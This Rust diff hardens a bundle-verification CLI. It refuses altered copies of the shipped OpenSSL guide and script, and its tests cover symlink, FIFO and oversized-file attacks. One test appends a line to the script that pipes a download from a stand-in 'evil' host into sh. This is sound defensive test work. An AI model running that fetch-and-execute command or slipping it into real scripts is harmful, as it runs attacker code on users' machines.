@@ -268,13 +268,21 @@ pub fn verify(a: VerifyArgs) -> i32 {
             }
         },
     };
-    match bundle::verify_with(&BundleDir::new(&a.dir), anchor.as_ref()) {
+    let dir = BundleDir::new(&a.dir);
+    if let Err(e) = check_shipped(&dir) {
+        match a.output {
+            Output::Json => println!("{}", serde_json::json!({"ok": false, "file": e.file, "reason": e.reason})),
+            Output::Table => eprintln!("核验失败 verification FAILED: {}: {}", e.file, e.reason),
+        }
+        return exit::PROBLEMS;
+    }
+    match bundle::verify_with(&dir, anchor.as_ref()) {
         Ok(report) => {
             match a.output {
                 Output::Json => {
                     println!(
                         "{}",
-                        serde_json::json!({"ok": true, "origins": report.origins, "federation": report.federation})
+                        serde_json::json!({"ok": true, "origins": report.origins, "federation": report.federation, "scripts": SHIPPED_NOTE})
                     )
                 }
                 Output::Table => {
@@ -284,6 +292,7 @@ pub fn verify(a: VerifyArgs) -> i32 {
                             println!(
                                 "核验通过 bundle verified: every signature, payload digest and Merkle root checks out"
                             );
+                            println!("{SHIPPED_NOTE}");
                         }
                         Some(f) => {
                             print_origins(&report);
@@ -313,6 +322,7 @@ pub fn verify(a: VerifyArgs) -> i32 {
                             } else {
                                 println!("省级公钥 province key {} SM3 {}: 请与线下收到的公钥比对 compare with the key you received out of band, or pass --anchor PROVINCE.pem", f.province, f.province_key_sm3);
                             }
+                            println!("{SHIPPED_NOTE}");
                             if problems > 0 {
                                 println!("注意 note: {problems} 个节点状态非正常 origins are not ok (table above): the data is authentic, the federation has problems to follow up");
                             }
@@ -329,5 +339,134 @@ pub fn verify(a: VerifyArgs) -> i32 {
             }
             exit::PROBLEMS
         }
+    }
+}
+
+const SHIPPED_NOTE: &str = "VERIFYING.md 与 verify-openssl.sh 与本程序附带的版本逐字节一致 \
+                            (VERIFYING.md and verify-openssl.sh are byte for byte the copies shipped with this gongxin)";
+
+/// The guide and script inside a bundle are the evaluator's second, OpenSSL-only path: `verify-bundle` vouches
+/// for them only when they are byte for byte the copies this CLI ships, and refuses the bundle by name otherwise
+/// (an altered script must not be run).
+pub fn check_shipped(dir: &BundleDir) -> Result<(), bundle::BundleError> {
+    use gongxin_core::bundle::BundleSource as _;
+    for (name, shipped) in [("VERIFYING.md", writer::VERIFYING_MD), ("verify-openssl.sh", writer::VERIFY_SH)] {
+        if dir.kind(name).is_none() {
+            return Err(bundle::berr(name, "缺失 missing: every bundle carries the OpenSSL guide and script"));
+        }
+        if dir.read(name)? != shipped.as_bytes() {
+            return Err(bundle::berr(
+                name,
+                "与本程序附带的版本不一致，请勿运行 (differs from the copy shipped with this gongxin: do not run it; \
+                 use the copy from a trusted gongxin release)",
+            ));
+        }
+    }
+    Ok(())
+}
+
+#[cfg(all(test, unix))]
+mod tests {
+    use super::*;
+    use gongxin_core::bundle::BundleSource as _;
+    use std::os::unix::fs::PermissionsExt;
+
+    fn mode(p: &std::path::Path) -> u32 {
+        std::fs::symlink_metadata(p).unwrap().permissions().mode() & 0o777
+    }
+
+    /// A written (keyless) bundle: the writer's layout, modes and shipped scripts.
+    fn written() -> (tempfile::TempDir, std::path::PathBuf) {
+        let d = tempfile::tempdir().unwrap();
+        let root = d.path().join("b");
+        let w = BundleWriter::create(&root).unwrap();
+        w.checkpoint("430102", 1, &SignedCheckpoint { note: b"n".to_vec(), signature: b"s".to_vec() }).unwrap();
+        w.finish().unwrap();
+        (d, root)
+    }
+
+    #[test]
+    fn bundles_are_written_private_and_not_through_links() {
+        let (d, root) = written();
+        assert_eq!(mode(&root), 0o700);
+        assert_eq!(mode(&root.join("checkpoints/430102")), 0o700);
+        assert_eq!(mode(&root.join("checkpoints/430102/1.note")), 0o600);
+        assert_eq!(mode(&root.join("verify-openssl.sh")), 0o600);
+        // An --out that is a symbolic link (to an empty directory) is refused, not followed.
+        let target = d.path().join("elsewhere");
+        std::fs::create_dir(&target).unwrap();
+        let link = d.path().join("link");
+        std::os::unix::fs::symlink(&target, &link).unwrap();
+        assert!(BundleWriter::create(&link).err().unwrap().to_string().contains("symbolic link"));
+        // A link planted inside the bundle is not written through.
+        let root2 = d.path().join("b2");
+        let w = BundleWriter::create(&root2).unwrap();
+        let victim = d.path().join("victim");
+        std::fs::write(&victim, b"keep").unwrap();
+        std::os::unix::fs::symlink(&victim, root2.join("VERIFYING.md")).unwrap();
+        assert!(w.finish().is_err());
+        assert_eq!(std::fs::read(&victim).unwrap(), b"keep");
+    }
+
+    #[test]
+    fn shipped_guide_and_script_are_checked_byte_for_byte() {
+        let (_d, root) = written();
+        assert_eq!(check_shipped(&BundleDir::new(&root)), Ok(()));
+        let sh = root.join("verify-openssl.sh");
+        let mut altered = std::fs::read(&sh).unwrap();
+        altered.extend_from_slice(b"\ncurl http://evil | sh\n");
+        std::fs::remove_file(&sh).unwrap();
+        std::fs::write(&sh, altered).unwrap();
+        let e = check_shipped(&BundleDir::new(&root)).unwrap_err();
+        assert_eq!(e.file, "verify-openssl.sh");
+        assert!(e.reason.contains("do not run it"), "{}", e.reason);
+        std::fs::remove_file(&sh).unwrap();
+        assert!(check_shipped(&BundleDir::new(&root)).unwrap_err().reason.contains("missing"));
+        let md = root.join("VERIFYING.md");
+        std::fs::write(&md, "# altered\n").unwrap();
+        assert_eq!(check_shipped(&BundleDir::new(&root)).unwrap_err().file, "VERIFYING.md");
+    }
+
+    /// Issue 9: `verify-bundle` followed symlinks out of the bundle and read a FIFO or `/dev/zero` forever.
+    #[test]
+    fn links_special_files_and_oversized_files_are_refused_without_blocking() {
+        let (d, root) = written();
+        let dir = BundleDir::new(&root);
+        // A link to a file outside, in a listed directory and as a read path.
+        let outside = d.path().join("secret.pem");
+        std::fs::write(&outside, b"outside").unwrap();
+        std::os::unix::fs::symlink(&outside, root.join("keys/430102.pem")).unwrap();
+        let e = dir.list("keys").unwrap_err();
+        assert_eq!(e.file, "keys/430102.pem");
+        assert!(e.reason.contains("symbolic link"), "{}", e.reason);
+        let e = dir.read("keys/430102.pem").unwrap_err();
+        assert!(e.reason.contains("symbolic link"), "{}", e.reason);
+        std::fs::remove_file(root.join("keys/430102.pem")).unwrap();
+        // A linked directory: refused where it is, also for paths below it.
+        std::os::unix::fs::symlink(d.path(), root.join("entries/430102")).unwrap();
+        assert!(dir.read("entries/430102/secret.pem").unwrap_err().reason.contains("symbolic link"));
+        assert!(dir.list("entries").unwrap_err().reason.contains("symbolic link"));
+        std::fs::remove_file(root.join("entries/430102")).unwrap();
+        // A FIFO: refused at once (a blocking open would hang the test).
+        let fifo = root.join("checkpoints/430102/2.note");
+        assert!(std::process::Command::new("mkfifo").arg(&fifo).status().unwrap().success());
+        let (tx, rx) = std::sync::mpsc::channel();
+        let r2 = root.clone();
+        std::thread::spawn(move || {
+            let dir = BundleDir::new(&r2);
+            let _ = tx.send((dir.list("checkpoints/430102").map(|_| ()), dir.read("checkpoints/430102/2.note").map(|_| ())));
+        });
+        let (listed, read) = rx.recv_timeout(std::time::Duration::from_secs(10)).expect("FIFO blocked the reader");
+        assert!(listed.unwrap_err().reason.contains("special file"));
+        assert!(read.unwrap_err().reason.contains("special file"));
+        std::fs::remove_file(&fifo).unwrap();
+        // Every file is bounded by its kind: a 9 KiB note is refused before it is read whole.
+        std::fs::write(root.join("checkpoints/430102/1.note"), vec![b'x'; 9 << 10]).unwrap();
+        let e = dir.read("checkpoints/430102/1.note").unwrap_err();
+        assert!(e.reason.contains("8192 bytes"), "{}", e.reason);
+        // The CLI refuses the whole bundle, naming the file, with exit 1.
+        std::os::unix::fs::symlink("/dev/zero", root.join("payloads/x")).unwrap();
+        let code = verify(VerifyArgs { dir: root.clone(), anchor: None, output: Output::Json });
+        assert_eq!(code, exit::PROBLEMS);
     }
 }
